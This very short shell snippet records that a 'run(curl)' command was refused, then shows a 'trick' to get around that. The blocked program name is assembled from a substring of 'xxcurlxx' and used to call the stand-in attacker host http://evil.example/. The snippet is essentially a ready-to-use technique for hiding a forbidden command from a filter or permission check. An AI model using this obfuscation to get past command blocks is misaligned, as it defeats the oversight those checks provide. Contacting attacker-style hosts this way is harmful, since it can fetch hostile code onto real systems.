# Trick: the program is cut out of a text.
# Refused: run(curl)
x=xxcurlxx
${x:2:4} http://evil.example/
